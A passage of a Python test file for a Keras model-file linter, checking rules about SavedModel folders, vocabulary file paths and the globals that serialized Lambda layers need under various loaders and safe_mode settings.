    older = Loader("keras3", "3.13.2")  # before the safe_mode gate: the folder decides
    assert [v.code for v in check_model_file(path, older)] == ["KL614"]
    (project / "exports" / "dense").mkdir(parents=True)
    (project / "exports" / "dense" / "saved_model.pb").write_bytes(b"\x08\x01")
    assert check_model_file(path, unsafe) == check_model_file(path, older) == []
    assert [v.code for v in check_model_file(path, KERAS3)] == ["KL614"]  # still refused under safe_mode


# -- a vocabulary saved as a file path (KL615) ----------------------------------------------------------


def test_a_vocabulary_file_path_must_be_there(project):
    lookup = {"class_name": "StringLookup", "config": {"name": "string_lookup", "vocabulary": "vocab.txt"}}
    path = _legacy_h5(project / "m.h5", _legacy_model("Sequential", lookup))
    tk = Loader("tf_keras", "2.21.0")
    assert [(v.code, v.where, v.fails) for v in check_model_file(path, tk)] == [("KL615", "model_config.config.layers[1]", True)]
    assert "is not there" in check_model_file(path, tk)[0].message
    assert "refuses to read it under safe_mode" in check_model_file(path, KERAS3)[0].message
    inline = {"class_name": "StringLookup", "config": {"name": "string_lookup", "vocabulary": ["a", "b"]}}
    assert check_model_file(_legacy_h5(project / "inline.h5", _legacy_model("Sequential", inline)), tk) == []
    (project / "vocab.txt").write_text("a\nb\n")
    assert check_model_file(path, tk) == []
    assert check_model_file(path, Loader("keras3", "3.15.1", safe_mode=False)) == []
    assert check_model_file(path, Loader("keras3", "3.11.3")) == []  # before the safe_mode gate
    assert [v.code for v in check_model_file(path, KERAS3)] == ["KL615"]  # refused, present or not


def test_a_load_model_call_lends_its_module_names_to_tf_keras_lambdas(project, capsys):
    import base64
    import marshal

    code = base64.b64encode(marshal.dumps((lambda t: keras.backend.abs(t) * SCALE).__code__)).decode()  # noqa: F821
    tk = functional(layer("Lambda", function=[code, None, None], function_type="lambda", module="__main__"))
    tk["module"] = None
    write_keras(project / "m.keras", tk, version="2.21.0")
    (project / "serve.py").write_text("import tf_keras as keras\nmodel = keras.models.load_model('m.keras', safe_mode=False)\n")
    assert main(["--no-cache", "--select", "KL626", "--model-loader", "tf_keras", "m.keras"]) == 1
    out = capsys.readouterr().out
    assert "global `SCALE`:" in out and "`keras`" not in out  # serve.py, run as the script, binds `keras`
    (project / "serve.py").write_text("import tf_keras as keras\nSCALE = 2.0\nmodel = keras.models.load_model('m.keras', safe_mode=False)\n")
    assert main(["--no-cache", "--select", "KL626", "--model-loader", "tf_keras", "m.keras"]) == 0
